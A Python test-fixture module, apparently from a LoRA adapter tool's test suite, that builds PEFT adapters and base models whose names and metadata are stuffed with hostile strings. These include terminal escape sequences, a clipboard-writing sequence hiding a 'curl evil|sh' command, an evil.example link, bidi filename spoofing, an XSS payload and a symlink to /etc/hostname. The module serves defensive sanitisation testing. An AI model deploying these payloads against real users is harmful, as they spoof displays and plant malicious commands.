"""An adapter and its base as somebody would write them who means the reader no good."""

import json
import os
import re
from pathlib import Path

import torch
from safetensors.torch import save_file

from lora_tools.text import UNSEEN

FORGED = "FORGED: all is well"
ESCAPES = (
    "\x1b[31m\x1b[2J",  # colours, and an empty screen
    "\x1b]52;c;Y3VybCBldmlsfHNo\x07",  # something on the clipboard
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x9b2J\x9d0;title\x9c\x7f\x08\x08\r",
    "\u202egpj.exe\u2066\u200b\u2028\u2029\ufeff\U000e0041",
    "|`</script><img src=x onerror=alert(1)>[x](http://evil.example)",
    "\0",
)
LINES = f"\n{FORGED}\n  {FORGED}"
"""What PEFT's own names cannot hold: an adapter with it contradicts itself."""
EVIL = "".join([*ESCAPES, LINES])
LONG = "x" * 100_000
RAW = b"caf\xe9\x1b[31m.txt"
"""A file's name that is no text."""
SIZE = 6


def adapter(folder: Path, *, rank: int = 2, torn: bool = False) -> Path:
    """Write a PEFT adapter whose every name is hostile, and which every verb can read."""
    torch.manual_seed(0)
    folder.mkdir(parents=True)
    tensors = {}
    for name in [*modules(), *([f"layers.0.m{LINES}"] if torn else [])]:
        stem = f"base_model.model.{name}"
        tensors[f"{stem}.lora_A.weight"] = torch.randn(rank, SIZE)
        tensors[f"{stem}.lora_B.weight"] = torch.randn(SIZE, rank)
    metadata = {"format": "pt", "ss_output_name": EVIL, EVIL: EVIL, "ss_training_comment": LONG}
    save_file(tensors, folder / "adapter_model.safetensors", metadata)
    config = {
        "peft_type": "LORA",
        "r": rank,
        "lora_alpha": 4,
        "target_modules": [name.rpartition(".")[2] for name in modules()],
        "base_model_name_or_path": EVIL + LONG,
        "task_type": EVIL,
        "peft_version": EVIL + LONG,
        "revision": EVIL,
    }
    (folder / "adapter_config.json").write_text(json.dumps(config))
    (folder / "README.md").write_bytes(f"# {EVIL}\n".encode("utf-8", "replace"))
    (folder / f"side {ESCAPES[0]}.txt").write_text("x")
    Path(os.fsdecode(os.fsencode(folder) + b"/" + RAW)).write_text("x")
    (folder / f"away {ESCAPES[0]}").symlink_to("/etc/hostname")
    return folder


def modules() -> list[str]:
    """Return the names of the modules: one for each kind of evil, and one that is too long."""
    return [
        *(f"layers.0.m{number}{text}" for number, text in enumerate(ESCAPES)),
        f"layers.1.{LONG}",
    ]


def model(folder: Path) -> Path:
    """Write the base model of the adapter."""
    torch.manual_seed(1)
    folder.mkdir(parents=True)
    weights = {f"{name}.weight": torch.randn(SIZE, SIZE) for name in modules()}
    save_file(weights, folder / "model.safetensors", {"format": "pt", EVIL: EVIL})
    config = {"architectures": [EVIL], "model_type": EVIL, "_name_or_path": EVIL}
    (folder / "config.json").write_text(json.dumps(config))
    return folder


ALLOWED = "\n\t"
"""What our own output has of what is not seen."""


def unseen(text: str) -> list[str]:
    """Return what a text holds that acts on a terminal, or that a reader does not see."""
    return [found for found in re.findall(f"[{UNSEEN}]", text) if found not in ALLOWED]
